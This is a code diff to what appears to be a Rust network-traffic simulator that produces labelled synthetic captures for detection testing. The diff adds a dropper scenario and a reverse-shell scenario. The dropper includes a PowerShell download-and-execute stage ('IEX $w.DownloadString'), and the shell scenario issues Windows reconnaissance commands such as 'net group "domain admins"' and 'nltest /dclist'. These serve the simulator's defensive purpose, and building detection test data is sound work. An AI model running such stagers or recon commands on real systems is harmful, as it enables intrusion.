@@ -9,8 +9,11 @@
 //! times; DNS with CNAME chains to CDNs; TLS 1.2/1.3 with SNI and ALPN and distinct client profiles;
 //! HTTP/1.1 with keep-alive and chunked bodies. Benign look-alikes: CDN names with random labels,
 //! antivirus reputation lookups, DNSBL and reverse lookups, mDNS, NTP and a monitoring agent on fixed
-//! periods, and large uploads to a cloud storage service used by several hosts.
-//! Attacks (randomised per seed): DNS tunnel, beaconing, HTTP exfiltration, TLS exfiltration.
+//! periods, and large uploads to a cloud storage service used by several hosts; software downloads
+//! from vendors (Windows Update, a browser fetching an installer).
+//! Attacks (randomised per seed): DNS tunnel, beaconing, HTTP exfiltration, TLS exfiltration, and a
+//! dropper (a PE, a PE served as an image, an encrypted payload, or a PowerShell stage over HTTP), and
+//! an interactive reverse shell (one raw TCP session to an address on an odd port, most of the capture).
 
 pub mod flood;
 pub mod net;
@@ -24,7 +27,14 @@ use std::io::Write;
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 use std::path::{Path, PathBuf};
 
-pub const ATTACKS: &[&str] = &["dns_tunnel", "beaconing", "http_exfil", "tls_exfil"];
+pub const ATTACKS: &[&str] = &[
+    "dns_tunnel",
+    "beaconing",
+    "http_exfil",
+    "tls_exfil",
+    "dropper",
+    "reverse_shell",
+];
 
 #[derive(Debug, Clone)]
 pub struct SimConfig {
@@ -89,7 +99,7 @@ pub fn parse_attacks(s: &str) -> anyhow::Result<Vec<String>> {
             for a in &v {
                 if !ATTACKS.contains(&a.as_str()) {
                     anyhow::bail!(
-                        "unknown attack {a:?} (dns_tunnel, beaconing, http_exfil, tls_exfil, all, none)"
+                        "unknown attack {a:?} (dns_tunnel, beaconing, http_exfil, tls_exfil, dropper, reverse_shell, all, none)"
                     );
                 }
             }
@@ -168,6 +178,47 @@ enum Task {
         idx: usize,
         bytes: usize,
     },
+    Dropper {
+        idx: usize,
+    },
+    /// An operator typing into a reverse shell: one TCP session, irregular small commands and
+    /// larger answers, until `until`.
+    Shell {
+        host: usize,
+        dst: IpAddr,
+        port: u16,
+        until: i64,
+    },
+    /// A benign download from a vendor: 0 = Windows Update fetching a signed PE, 1 = a browser
+    /// fetching an installer from the vendor's download host after visiting its page.
+    VendorDownload {
+        host: usize,
+        kind: usize,
+    },
+}
+
+/// A dropper's stage: how the executable content reaches the victim.
+struct Dropper {
+    host: usize,
+    dst: IpAddr,
+    /// Host header: a name (resolved first) or the address itself.
+    host_hdr: String,
+    by_name: bool,
+    variant: &'static str,
+}
+
+/// A plausible PE head (DOS stub, PE signature, i386 COFF header) followed by `n` bytes of `fill`.
+fn pe_image(rng: &mut Rng, n: usize) -> Vec<u8> {
+    let mut v = vec![0u8; 0x80];
+    v[0] = b'M';
+    v[1] = b'Z';
+    v[0x3c] = 0x80;
+    let stub = b"This program cannot be run in DOS mode.\r\r\n$";
+    v[0x4e..0x4e + stub.len()].copy_from_slice(stub);
+    v.extend_from_slice(b"PE\0\0\x4c\x01\x05\x00");
+    let body = rng.bytes(n);
+    v.extend_from_slice(&body);
+    v
 }
 
 struct Tunnel {
@@ -210,6 +261,7 @@ struct World {
     beacons: Vec<Beacon>,
     http_exfil: Vec<Exfil>,
     tls_exfil: Vec<Exfil>,
+    droppers: Vec<Dropper>,
     dns_id: u16,
     port: u16,
 }
@@ -563,6 +615,7 @@ impl World {
             tls13,
             if alpn.is_empty() { None } else { Some("h2") },
             self_signed,
+            sni,
         );
         tcp.send(out, false, &sf);
         let cf = client_finish(&mut self.rng, tls13);
@@ -1116,6 +1169,150 @@ impl World {
                 tcp.send(out, false, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"status\":\"ok\"}\n");
                 tcp.close(out);
             }
+            Task::Dropper { idx } => {
+                let (host, dst, host_hdr, by_name, variant) = {
+                    let d = &self.droppers[idx];
+                    (d.host, d.dst, d.host_hdr.clone(), d.by_name, d.variant)
+                };
+                let t2 = if by_name {
+                    self.dns_a(out, t, host, &host_hdr, dst)
+                } else {
+                    t
+                };
+                let c = self.host_ep(host, false);
+                let s = self.server(dst, 80);
+                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 60_000, 120);
+                tcp.open(out);
+                let n = self.rng.range(90_000, 400_000) as usize;
+                let name = alnum(&mut self.rng, 10);
+                let browser = *self.rng.pick(UAS);
+                let (path, ua, ctype, body) = match variant {
+                    "pe" => (
+                        format!("/download/{name}.exe"),
+                        browser.to_string(),
+                        "application/x-msdownload",
+                        pe_image(&mut self.rng, n),
+                    ),
+                    "pe_as_image" => (
+                        format!("/images/{name}.jpg"),
+                        browser.to_string(),
+                        "image/jpeg",
+                        pe_image(&mut self.rng, n),
+                    ),
+                    // an exploit kit's drop: encrypted for the victim, declared as what it becomes
+                    "encrypted" => (
+                        format!(
+                            "/?{}={}&q={}",
+                            alnum(&mut self.rng, 3),
+                            alnum(&mut self.rng, 24),
+                            alnum(&mut self.rng, 40)
+                        ),
+                        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)"
+                            .to_string(),
+                        "application/x-msdownload",
+                        self.rng.bytes(n),
+                    ),
+                    _ => {
+                        let stage = format!(
+                            "$u='http://{host_hdr}/{}';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString($u)\r\n",
+                            alnum(&mut self.rng, 12)
+                        );
+                        (format!("/{name}"), "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4780".to_string(), "text/plain", stage.into_bytes())
+                    }
+                };
+                let req = format!(
+                    "GET {path} HTTP/1.1\r\nHost: {host_hdr}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nConnection: Keep-Alive\r\n\r\n"
+                );
+                tcp.send(out, true, req.as_bytes());
+                tcp.idle(self.rng.range(20_000, 200_000) as i64);
+                let mut resp = format!("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
+                resp.extend_from_slice(&body);
+                tcp.send(out, false, &resp);
+                tcp.close(out);
+            }
+            Task::Shell {
+                host,
+                dst,
+                port,
+                until,
+            } => {
+                let c = self.host_ep(host, false);
+                let s = self.server(dst, port);
+                let mut tcp = Tcp::new(&mut self.rng, c, s, t, 80_000, 200);
+                tcp.open(out);
+                let banner = b"Microsoft Windows [Version 10.0.19045.4651]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\Public>";
+                tcp.send(out, true, banner);
+                while tcp.t < until {
+                    // think time: irregular (an operator), never long enough to time the flow out
+                    tcp.idle((self.rng.exp(35e6) as i64).clamp(2_000_000, 170_000_000));
+                    let cmd = self
+                        .rng
+                        .pick(&[
+                            "whoami /all",
+                            "ipconfig /all",
+                            "net group \"domain admins\" /domain",
+                            "dir C:\\Users",
+                            "tasklist /v",
+                            "systeminfo",
+                            "nltest /dclist:",
+                            "type C:\\Users\\Public\\notes.txt",
+                        ])
+                        .to_string();
+                    tcp.send(out, false, format!("{cmd}\r\n").as_bytes());
+                    let n = self.rng.range(60, 4000) as usize;
+                    let mut answer = self.text[..n.min(self.text.len())].to_vec();
+                    answer.extend_from_slice(b"\r\nC:\\Users\\Public>");
+                    tcp.send(out, true, &answer);
+                }
+                tcp.close(out);
+            }
+            Task::VendorDownload { host, kind } => {
+                let (name, cnames, path, ua, referer): (&str, &[&str], String, &str, Option<&str>) =
+                    if kind == 0 {
+                        (
+                            "download.windowsupdate.com",
+                            &["download.windowsupdate.com.edgesuite.net"],
+                            format!(
+                                "/c/msdownload/update/software/secu/2026/11/windows10.0-kb{}-x64_{}.exe",
+                                self.rng.range(5_000_000, 5_100_000),
+                                proto::hex(&self.rng.bytes(20))
+                            ),
+                            "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
+                            None,
+                        )
+                    } else {
+                        (
+                            "download.mozilla.org",
+                            &["download.mozilla.org.cdn.mozilla.net"],
+                            "/?product=firefox-stub&os=win64&lang=en-US".to_string(),
+                            UAS[0],
+                            Some("https://www.mozilla.org/en-US/firefox/new/"),
+                        )
+                    };
+                let (ip, t2) = self.resolve(out, t, host, name, cnames, false);
+                let c = self.host_ep(host, false);
+                let s = self.server(ip, 80);
+                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 20_000, 60);
+                tcp.open(out);
+                let referer = referer
+                    .map(|r| format!("Referer: {r}\r\n"))
+                    .unwrap_or_default();
+                let req = format!(
+                    "GET {path} HTTP/1.1\r\nHost: {name}\r\nUser-Agent: {ua}\r\n{referer}Accept: */*\r\n\r\n"
+                );
+                tcp.send(out, true, req.as_bytes());
+                let n = (self.rng.range(300_000, 1_500_000) as f64 * self.scale.min(1.0)) as usize;
+                let body = pe_image(&mut self.rng, n.max(20_000));
+                let disp = if kind == 1 {
+                    "Content-Disposition: attachment; filename=\"Firefox Installer.exe\"\r\n"
+                } else {
+                    ""
+                };
+                let mut resp = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n{disp}Content-Length: {}\r\n\r\n", body.len()).into_bytes();
+                resp.extend_from_slice(&body);
+                tcp.send(out, false, &resp);
+                tcp.close(out);
+            }
             Task::TlsExfil { idx, bytes } => {
                 let (host, dst, port, domain) = {
                     let e = &self.tls_exfil[idx];
@@ -1209,6 +1406,7 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> anyhow::Result<(Truth, W)> {
         beacons: Vec::new(),
         http_exfil: Vec::new(),
         tls_exfil: Vec::new(),
+        droppers: Vec::new(),
         dns_id: (cfg.seed as u16) | 1,
         port: 40000,
     };
@@ -1362,6 +1560,25 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> anyhow::Result<(Truth, W)> {
         dst_ip: Some(public_v4("storage.googleapis.com").to_string()),
         domain: Some("storage.googleapis.com".into()),
         parameters: json!({"bytes_each_min": up_bytes}),
+    });
+    // software downloads from vendors (benign executables): Windows Update and a browser installer,
+    // drawn from their own generator so the rest of the scenario does not move
+    let mut vr = Rng::new(cfg.seed ^ 0x5eed_d0e5);
+    let vendor_hosts = [2 % n, 3 % n];
+    for (kind, &h) in vendor_hosts.iter().enumerate() {
+        let t = start + vr.range(0, dur as u64 * 9 / 10) as i64;
+        add(&mut tasks, t, Task::VendorDownload { host: h, kind });
+    }
+    truth.lookalikes.push(LookalikeTruth {
+        kind: "vendor_software_download".into(),
+        resembles: "download".into(),
+        src_ips: vendor_hosts
+            .iter()
+            .map(|h| hosts[*h].v4.to_string())
+            .collect(),
+        dst_ip: None,
+        domain: Some("download.windowsupdate.com / download.mozilla.org".into()),
+        parameters: json!({"executables": 2}),
     });
     let all_hosts: Vec<String> = hosts.iter().map(|h| h.v4.to_string()).collect();
     // (kind, resembles, sources: all hosts or the mail host, dst, domain, parameters)
@@ -1645,6 +1862,61 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> anyhow::Result<(Truth, W)> {
                     dst_port: Some(443),
                     domain: Some(domain),
                     parameters: json!({"bytes": total}),
+                });
+            }
+            "reverse_shell" => {
+                let dst = IpAddr::V4(public_v4(&format!("shell-{}", r.u64())));
+                let port = *r.pick(&[4444u16, 8888, 1337, 9001, 6666, 31337]);
+                let t0 = r.range((start + dur / 40) as u64, (start + dur / 5) as u64) as i64;
+                let until = end - r.range(0, (dur / 10) as u64) as i64;
+                add(
+                    &mut tasks,
+                    t0,
+                    Task::Shell {
+                        host: h,
+                        dst,
+                        port,
+                        until,
+                    },
+                );
+                truth.attacks.push(AttackTruth {
+                    category: "long_connection".into(),
+                    kind: "reverse_shell".into(),
+                    src_ip: src,
+                    dst_ip: Some(dst.to_string()),
+                    dst_port: Some(port),
+                    domain: None,
+                    parameters: json!({"port": port, "duration_s": (until - t0) / 1_000_000}),
+                });
+            }
+            "dropper" => {
+                let variant = *r.pick(&["pe", "pe_as_image", "encrypted", "powershell"]);
+                let domain = rand_domain(r);
+                let dst = IpAddr::V4(public_v4(&domain));
+                let by_name = r.chance(0.6);
+                let host_hdr = if by_name {
+                    domain.clone()
+                } else {
+                    dst.to_string()
+                };
+                world.droppers.push(Dropper {
+                    host: h,
+                    dst,
+                    host_hdr: host_hdr.clone(),
+                    by_name,
+                    variant,
+                });
+                let idx = world.droppers.len() - 1;
+                let t = r.range(a0 as u64, a1 as u64) as i64;
+                add(&mut tasks, t, Task::Dropper { idx });
+                truth.attacks.push(AttackTruth {
+                    category: "download".into(),
+                    kind: format!("dropper_{variant}"),
+                    src_ip: src,
+                    dst_ip: Some(dst.to_string()),
+                    dst_port: Some(80),
+                    domain: by_name.then_some(domain),
+                    parameters: json!({"variant": variant, "host": host_hdr}),
                 });
             }
             _ => {}
